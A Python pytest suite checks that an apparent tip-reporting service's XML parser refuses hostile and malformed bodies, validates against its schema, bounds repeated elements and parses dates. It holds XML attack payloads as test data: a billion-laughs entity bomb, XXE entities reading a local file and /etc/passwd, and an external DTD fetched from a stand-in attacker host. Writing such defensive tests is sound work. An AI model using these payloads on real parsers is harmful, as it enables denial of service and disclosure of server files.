"""Hostile and broken XML bodies get their response code, and none of them is resolved, expanded or kept."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from lxml import etree

from clearinghouse.tipline import xmlsafe
from clearinghouse.tipline.wire_schemas import MAX_ENTRIES, MAX_REPORT_ENTRIES
from clearinghouse.tipline.xmlsafe import ResponseCode, WireError, parse_document, xs_datetime
from tests.tipline.factories import file_details, make_faker, minimal_report
from tests.tipline.ispws_client import SchemaBuilder

MARKER = "SECRET-MARKER-7f3a9c"

LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' if i else '<!ENTITY lol0 "lol">' for i in range(10))
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE report [{LAUGHS}]><report>&lol9;</report>'


@pytest.fixture(scope="module")
def builder() -> SchemaBuilder:
    return SchemaBuilder()


@pytest.fixture
def valid_report(builder: SchemaBuilder) -> bytes:
    return builder.document("report", minimal_report(make_faker()))


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(MARKER)
    return path


def refused(body: bytes, expected_root: str = "report", **kwargs: int) -> WireError:
    with pytest.raises(WireError) as caught:
        parse_document(body, expected_root=expected_root, **kwargs)
    return caught.value


def xxe_report(secret_file: Path) -> bytes:
    """A report that would be schema-valid if the external entity were expanded into the platform name."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE report [<!ENTITY x SYSTEM "file://{secret_file}">]>'
        "<report><incidentSummary><incidentType>Child Sex Tourism</incidentType><platform>&x;</platform>"
        "<incidentDateTime>2024-01-01T00:00:00Z</incidentDateTime></incidentSummary>"
        "<reporter><reportingPerson/></reporter></report>"
    ).encode()


def test_a_valid_report_parses(valid_report: bytes) -> None:
    assert parse_document(valid_report, expected_root="report").tag == "report"


def test_xxe_with_a_file_entity_is_an_invalid_request_and_leaks_nothing(secret_file: Path) -> None:
    error = refused(xxe_report(secret_file))
    assert error.code == 4000
    assert "DOCTYPE" in error.description
    assert MARKER not in str(error)


def test_even_the_backstop_parser_never_expands_an_external_entity(secret_file: Path) -> None:
    # Defence in depth: past the prolog scan, lxml itself is configured not to resolve anything.
    root = xmlsafe._parse_bytes(xxe_report(secret_file))
    assert MARKER not in etree.tostring(root).decode()


def test_billion_laughs_is_refused_quickly_without_expansion() -> None:
    started = time.perf_counter()
    error = refused(BILLION_LAUGHS.encode())
    assert error.code == ResponseCode.INVALID_REQUEST
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("encoding", ["Shift_JIS", "windows-1252", "UTF-16"])
def test_attacks_in_encodings_the_prolog_scan_may_not_read_are_still_4000(encoding: str, secret_file: Path) -> None:
    for attack in (BILLION_LAUGHS, xxe_report(secret_file).decode()):
        body = attack.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>')
        error = refused(body.encode("utf-16" if encoding == "UTF-16" else "ascii"))
        assert error.code == ResponseCode.INVALID_REQUEST, error.description
        assert MARKER not in error.description


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE report SYSTEM "http://attacker.invalid/evil.dtd">',
        '<!DOCTYPE report [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        "<!DOCTYPE report>",
        '<!DOCTYPE report [<!ENTITY greeting "hello">]>',
    ],
    ids=["external-dtd", "parameter-entity", "bare-doctype", "internal-entity"],
)
def test_any_doctype_is_an_invalid_request(prolog: str, valid_report: bytes) -> None:
    body = valid_report.replace(b"?>\n", f"?>\n{prolog}".encode(), 1)
    assert refused(body).code == ResponseCode.INVALID_REQUEST


def test_a_50_mb_body_is_refused_by_its_length_before_any_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    def must_not_parse(body: bytes) -> None:
        raise AssertionError("an oversized body reached a parser")

    monkeypatch.setattr(xmlsafe, "_parse_bytes", must_not_parse)
    monkeypatch.setattr(xmlsafe, "_prolog_declares_dtd", must_not_parse)
    body = b"<report>" + b" " * (50 * 1024 * 1024) + b"</report>"
    error = refused(body)
    assert error.code == ResponseCode.INVALID_REQUEST
    assert "limit" in error.description


def test_the_size_limit_is_a_parameter(valid_report: bytes) -> None:
    assert refused(valid_report, max_bytes=len(valid_report) - 1).code == ResponseCode.INVALID_REQUEST
    assert parse_document(valid_report, expected_root="report", max_bytes=len(valid_report)) is not None


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<report>",
        b"<report><incidentSummary></report>",
        b"not xml at all",
        b"\x00\xff\xfe",
        b"<report>&x;</report>",
    ],
    ids=["empty", "truncated", "bad-nesting", "text", "binary", "undeclared-entity"],
)
def test_malformed_xml_is_4110(body: bytes) -> None:
    error = refused(body)
    assert error.code == 4110
    assert error.description.startswith("malformed XML")


@pytest.mark.parametrize("body", [b"<fileDetails/>", b'<report xmlns="urn:elsewhere"/>'])
def test_the_wrong_root_is_an_invalid_request(body: bytes) -> None:
    error = refused(body)
    assert error.code == ResponseCode.INVALID_REQUEST
    assert "<report>" in error.description


def test_schema_failure_names_the_element_and_the_reason(builder: SchemaBuilder) -> None:
    data = minimal_report(make_faker())
    data["incidentSummary"]["incidentType"] = "Something Else"
    error = refused(builder.document("report", data, validate=False))
    assert error.code == 4100
    assert "/report/incidentSummary/incidentType" in error.description
    assert "Something Else" in error.description


def test_schema_failure_for_a_missing_required_element(builder: SchemaBuilder) -> None:
    data = minimal_report(make_faker())
    del data["reporter"]
    error = refused(builder.document("report", data, validate=False))
    assert error.code == ResponseCode.SCHEMA_VALIDATION_FAILED
    assert "reporter" in error.description


def test_schema_failure_messages_stay_readable(builder: SchemaBuilder) -> None:
    data = minimal_report(make_faker())
    data["reporter"]["reportingPerson"]["address"] = [{"country": "Narnia"}]
    error = refused(builder.document("report", data, validate=False))
    assert "/report/reporter/reportingPerson/address/country" in error.description
    assert len(error.description) < xmlsafe.MAX_SCHEMA_MESSAGE_CHARS + 200


def test_file_details_are_checked_against_their_own_root(builder: SchemaBuilder) -> None:
    body = builder.document("fileDetails", {"reportId": 1, "fileId": "f1"})
    assert parse_document(body, expected_root="fileDetails").tag == "fileDetails"
    assert refused(body).code == ResponseCode.INVALID_REQUEST


def test_the_packaged_schema_is_the_published_one(shared_dir: Path) -> None:
    assert xmlsafe.schema_bytes() == (shared_dir / "specs" / "cybertipline.xsd").read_bytes()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-01-02T03:04:05Z", datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)),
        ("2024-01-02T03:04:05", datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)),
        ("2024-01-02T05:04:05+02:00", datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)),
        ("2024-01-02T24:00:00Z", datetime(2024, 1, 3, tzinfo=UTC)),
        ("2024-01-02T03:04:05.123456789Z", datetime(2024, 1, 2, 3, 4, 5, 123456, tzinfo=UTC)),
    ],
)
def test_date_times_become_aware(text: str, expected: datetime) -> None:
    parsed = xs_datetime(text, "here")
    assert parsed == expected
    assert parsed is not None
    assert parsed.tzinfo is not None


def test_date_times_outside_python_years_are_invalid_requests() -> None:
    with pytest.raises(WireError) as caught:
        xs_datetime("10000-01-01T00:00:00Z", "/report/incidentSummary/incidentDateTime")
    assert caught.value.code == ResponseCode.INVALID_REQUEST
    assert "incidentDateTime" in caught.value.description


@pytest.mark.parametrize(
    "text",
    [
        "9999-12-31T24:00:00Z",  # the midnight after the last day Python can hold
        "9999-12-31T24:00:00",
        "9999-12-31T23:59:59-14:00",  # in UTC, a day Python cannot hold
        "9999-06-01T00:00:00Z",
        "1899-12-31T23:00:00Z",
        "0001-01-01T00:00:00+14:00",
        "10000-01-01T00:00:00Z",
        "-0001-01-01T00:00:00Z",
    ],
)
def test_date_times_out_of_range_are_invalid_requests_naming_the_element(text: str) -> None:
    with pytest.raises(WireError) as caught:
        xs_datetime(text, "/report/incidentSummary/incidentDateTime")
    assert caught.value.code == ResponseCode.INVALID_REQUEST
    assert caught.value.description.startswith("/report/incidentSummary/incidentDateTime: ")
    assert "from 1900 to 9998" in caught.value.description


def test_the_place_of_a_value_is_worked_out_only_for_an_error() -> None:
    asked: list[str] = []

    def where() -> str:
        asked.append("where")
        return "/report/victim[7]/ipCaptureEvent/dateTime"

    assert xs_datetime("2024-01-02T24:00:00Z", where) == datetime(2024, 1, 3, tzinfo=UTC)
    assert asked == []
    with pytest.raises(WireError) as caught:
        xs_datetime("9999-12-31T24:00:00Z", where)
    assert asked == ["where"]
    assert "/report/victim[7]/ipCaptureEvent/dateTime" in caught.value.description


def test_too_many_repeated_elements_are_refused_before_any_is_read() -> None:
    root = etree.fromstring(b"<report>" + b"<victim/>" * (MAX_ENTRIES + 1) + b"</report>")
    assert len(xmlsafe.children(root, "personOrUserReported")) == 0
    with pytest.raises(WireError) as caught:
        xmlsafe.children(root, "victim")
    assert caught.value.code == ResponseCode.INVALID_REQUEST
    expected = f"/report: {MAX_ENTRIES + 1} <victim> elements; at most {MAX_ENTRIES} are accepted"
    assert caught.value.description == expected


def test_file_details_of_more_repeated_elements_in_all_than_the_bound_are_refused(builder: SchemaBuilder) -> None:
    details = file_details(make_faker(), 1, "1-1")
    pairs = [{"name": "Model", "value": "Synthetic"}] * MAX_ENTRIES
    details["details"] = [{"nameValuePair": pairs}] * 10  # 10 lists of 1,000 pairs, 10 details, 4 more
    with pytest.raises(WireError) as caught:
        parse_document(builder.document("fileDetails", details), expected_root="fileDetails")
    assert caught.value.code == ResponseCode.INVALID_REQUEST
    assert caught.value.description.startswith(f"/fileDetails: more than {MAX_REPORT_ENTRIES} repeated elements")


def test_only_elements_the_schema_lets_repeat_are_counted(builder: SchemaBuilder) -> None:
    # Ten reported persons of 999 addresses: 10,000 entries. Each address holds an `address` (its street) that is
    # not repeatable: counted, they would make 19,990. The report's reporter and its own details add none.
    report = minimal_report(make_faker())
    report["reporter"] = {"reportingPerson": {"firstName": "Ada"}}
    addresses = [{"address": "1 Synthetic Way", "city": "Springfield"}] * (MAX_ENTRIES - 1)
    report["personOrUserReported"] = [{"personOrUserReportedPerson": {"address": addresses}}] * 10
    report["additionalInfo"] = "one note"
    assert parse_document(builder.document("report", report), expected_root="report").tag == "report"
    report["personOrUserReported"].append({"screenName": "one too many"})
    with pytest.raises(WireError) as caught:
        parse_document(builder.document("report", report), expected_root="report")
    assert caught.value.description.startswith(f"/report: more than {MAX_REPORT_ENTRIES} repeated elements")
